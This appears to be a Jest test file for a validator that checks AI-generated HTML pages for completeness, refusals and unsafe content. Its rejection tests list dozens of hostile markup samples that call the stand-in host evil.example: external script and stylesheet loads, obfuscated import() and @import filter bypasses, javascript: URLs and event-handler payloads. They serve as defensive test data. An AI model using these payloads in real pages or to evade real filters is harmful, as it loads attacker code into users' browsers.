import { describe, expect, it } from '@jest/globals';
import { goodPage } from '../../../../test/support/model/pages.js';
import { documentFault } from './document-fault.js';
import { unwrapped } from './unwrapped.js';

const HOSTS = new Set(['cdn.example']);
const faultOf = (text: string) => documentFault(text, HOSTS);
const inBody = (body: string) => faultOf(goodPage('T', body));
const inHead = (head: string) => faultOf(goodPage('T', '<p>x</p>', head));

describe('Accepted pages', () => {
  it.each([
    ['that is complete', goodPage()],
    ['with its own scripts', goodPage('T', '<script>document.title = "a < b";</script><p onclick="x()">x</p>')],
    ['with a script of the same site', goodPage('T', '<script src="/.stele/connector.js" type="module"></script>')],
    ['with a script from an allowed host', goodPage('T', '<script src="https://cdn.example/x.js"></script>')],
    [
      'with links and pictures',
      goodPage('T', '<a href="https://example.com">x</a><img alt="" src="https://example.com/x.png">'),
    ],
    ['with a form that sends mail', goodPage('T', '<form action="mailto:a@example.com"><button>x</button></form>')],
    ['with a form that sends to the same site', goodPage('T', '<form><button formaction="/x">x</button></form>')],
    ['with SVG drawings', goodPage('T', '<svg viewBox="0 0 1 1"><path d="M0 0"/><g><circle r="1"></circle></g></svg>')],
    ['without optional end tags', goodPage('T', '<ul><li>a<li>b</ul><p>x<p>y<table><tr><td>1<td>2</table>')],
    ['with its own style sheets', goodPage('T', '<style>/* @import is not used */ @import "/x.css"; .a\\:b{}</style>')],
    ['with a doctype in capital letters', goodPage().replace('<!doctype html>', '<!DOCTYPE HTML>')],
    [
      'with its own content security policy',
      goodPage('T', '<p>x</p>', '<meta http-equiv="content-security-policy" content="x">'),
    ],
  ])('a generated page %s is accepted', (_, page) => expect(faultOf(page)).toBeNull());
});

describe('Rejected pages', () => {
  it.each([
    ['prose instead of a page', 'I am sorry, but I cannot help with that.', 'refused', 'with text instead of a page'],
    ['no text at all', '', 'refused', 'with text instead of a page'],
    ['only part of a page', '<div>Hello</div>', 'incomplete', '<!doctype html>'],
    ['text before the page', `Here it is:\n${goodPage()}`, 'incomplete', '<!doctype html>'],
    ['text after the page', `${goodPage()}\nI hope you like it.`, 'incomplete', 'after the end'],
    ['two pages', goodPage() + goodPage(), 'incomplete', 'instead of once'],
    ['two pages, the second without a doctype', goodPage() + goodPage().slice(15), 'incomplete', 'instead of once'],
    ['two doctypes', `<!doctype html>${goodPage()}`, 'incomplete', 'instead of once'],
    ['a body that begins twice', goodPage('T', '<body><p>x</p>'), 'incomplete', 'instead of once'],
    [
      'an old doctype',
      goodPage().replace('html>', 'html public "-//W3C//DTD HTML 3.2//EN">'),
      'incomplete',
      '<!doctype',
    ],
    ['no title', goodPage('', '<p>x</p>'), 'incomplete', 'no title'],
    ['a title only in the body', goodPage('', '<svg><title>x</title></svg>'), 'incomplete', 'no title'],
    ['an empty body', goodPage('T', ''), 'incomplete', 'is empty'],
    ['no body', '<!doctype html><html><head><title>x</title></head><p>x</html>', 'incomplete', 'The page has no <'],
    ['no head', '<!doctype html><html><title>x</title><body><p>x</body></html>', 'incomplete', 'The page has no <'],
    ['a NUL', goodPage('T', '<p>\0</p>'), 'incomplete', 'not valid HTML'],
    ['a page of more than 512 KiB', goodPage('T', `<p>${'x'.repeat(524_288)}</p>`), 'incomplete', '512 KiB'],
    ['elements nested too deeply', goodPage('T', '<b>'.repeat(300) + '</b>'.repeat(300)), 'incomplete', 'deep'],
  ])('a response with %s is rejected', (_, text, kind, why) => {
    const fault = faultOf(text);
    expect(fault?.kind).toBe(kind);
    expect(fault?.detail).toContain(why);
  });

  it('an incomplete page is rejected, no matter where the page is cut off', () => {
    const page = goodPage(
      'T',
      '<main><h1>x</h1><ul><li>a</li></ul><script>let a = "</b>";</script><!-- c --></main>',
    ).trim();
    for (let end = 0; end < page.length; end++) expect(faultOf(page.slice(0, end))).not.toBeNull();
    expect(faultOf(page)).toBeNull();
  });

  it.each([
    '<script src="https://evil.example/x.js"></script>',
    '<script src="//evil.example/x.js"></script>',
    '<script src="\\\\evil.example/x.js"></script>',
    '<script src=" https://evil.example/x.js"></script>',
    '<script src="ht\ntps://evil.example/x.js"></script>',
    '<script src="http://cdn.example/x.js"></script>',
    '<script src="https://cdn.example.evil.example/x.js"></script>',
    '<script src="https://cdn.example@evil.example/x.js"></script>',
    '<script src="data:text/javascript,alert(1)"></script>',
    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    '<svg><script href="https://evil.example/x.js"></script></svg>',
    '<svg><script xlink:href="https://evil.example/x.js"></script></svg>',
    '<script>import "https://evil.example/x.js"</script>',
    '<script>import x from "https://evil.example/x.js"</script>',
    "<script>await import('https://evil.example/x.js')</script>",
    '<template><script src="https://evil.example/x.js"></script></template>',
    '<noscript><iframe src="https://evil.example/"></iframe></noscript>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="icon modulepreload" href="https://evil.example/x.js">',
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>@import "//evil.example/x.css";</style>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="Refresh" content="0;url=https://evil.example">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<p>x</p>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="https://evil.example/"></object>',
    '<embed src="https://evil.example/">',
    '<form action="https://evil.example/"><button>x</button></form>',
    '<form><button formaction="//evil.example/">x</button></form>',
    '<form><input type="image" alt="" formaction="https://evil.example/"></form>',
    '<form action="javascript:alert(1)"></form>',
    '<script type="importmap">{"imports":{"x":"https://evil.example/x.js"}}</script>',
    '<script type=" ImportMap ">{}</script>',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    '<style>@\\69mport url(https://evil.example/x.css);</style>',
    '<style>@\\000069 mport "https://evil.example/x.css";</style>',
    '<style>@i\\mport "https://evil.example/x.css";</style>',
    '<style>@import/**/"https://evil.example/x.css";</style>',
    '<style>@import url(https:\\2f/evil.example/x.css);</style>',
    '<style>@charset "/*"; @import url(https://evil.example/x.css); /* */</style>',
    '<style>@charset "/*"; @import/**/"https://evil.example/x.css";</style>',
    `<style>@import /*${'x'.repeat(3_000)}*/ "https://evil.example/x.css";</style>`,
    '<style>@import "ht\\\ntps://evil.example/x.css";</style>',
    '<style>@import "/\t/evil.example/x.css";</style>',
    '<style>@import url("\\9 //evil.example/x.css");</style>',
    '<script>import/**/"https://evil.example/x.js"</script>',
    '<script>import(/* x */"https://evil.example/x.js")</script>',
    '<script type="module">import x from//\n"https://evil.example/x.js"</script>',
    '<script>const s = "/*"; import("https://evil.example/x.js"); "*/"</script>',
    '<script>import("ht\\x74ps://evil.example/x.js")</script>',
    `<script>import/*${'x'.repeat(3_000)}*/"https://evil.example/x.js"</script>`,
    `<script>import${'/**/'.repeat(30)}"https://evil.example/x.js"</script>`,
    '<script>import("\\u{68}ttps:\\u002f/evil.example/x.js")</script>',
    '<script>import("https:\\\n//evil.example/x.js")</script>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<area alt="" href="JAVASCRIPT:alert(1)">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    '<svg><a><animate attributeName="href" values="#;javascript:alert(1)"/></a></svg>',
    '<a href="vbscript:x">x</a>',
    `<p onclick="import('https://evil.example/x.js')">x</p>`,
    `<svg onload="import('//evil.example/x.js')"></svg>`,
    `<img alt="" src="/x.png" onerror="import(&quot;https://evil.example/x.js&quot;)">`,
  ])('a page that contains %j is rejected', (markup) => {
    expect(inBody(`<p>x</p>${markup}`)?.kind).toBe('incomplete');
    if (/^<(?:base|meta|link|style|noscript|script|template)/i.test(markup))
      expect(inHead(markup)?.kind).toBe('incomplete');
  });

  it.each(['<section><p>x</p>', '<p>x</p><div class="', '<table><tr><td><b>x</td></tr></table>', '<svg><g></svg>'])(
    'a page is rejected if it ends with %j left open',
    (body) => expect(inBody(body)?.kind).toBe('incomplete'),
  );
});

describe('Extracting the page from a model’s output', () => {
  const page = goodPage().trim();
  it.each([
    ['nothing else', page],
    ['blanks around the page', `\n\n  ${page}\n`],
    ['a code fence', `\`\`\`html\n${page}\n\`\`\``],
    ['a code fence without a language', `\`\`\`\n${page}\n\`\`\`\n`],
    ['text around a code fence', `Here is your page:\n\n\`\`\`html\n${page}\n\`\`\`\n\nEnjoy!`],
    ['only a closing code fence', `${page}\n\`\`\``],
    ['reasoning before the page', `<think>The user wants <b>a page</b>.</think>\n\n${page}`],
    ['reasoning before a code fence', `<think>x</think>\`\`\`html\n${page}\n\`\`\``],
  ])('the page is extracted from a response with %s', (_, answer) => expect(unwrapped(answer)).toBe(page));

  it.each([
    ['two code fences', `\`\`\`html\n${page}\n\`\`\`\nor\n\`\`\`html\n${page}\n\`\`\``],
    ['an unclosed code fence', `\`\`\`html\n${page}`],
    ['unclosed reasoning', `<think>${page}`],
    ['markup outside of the code fence', `<p>x</p>\n\`\`\`html\n${page}\n\`\`\``],
    ['a code fence around plain text', '```\nI cannot.\n```'],
  ])('no page is extracted from a response with %s', (_, answer) => expect(faultOf(unwrapped(answer))).not.toBeNull());
});
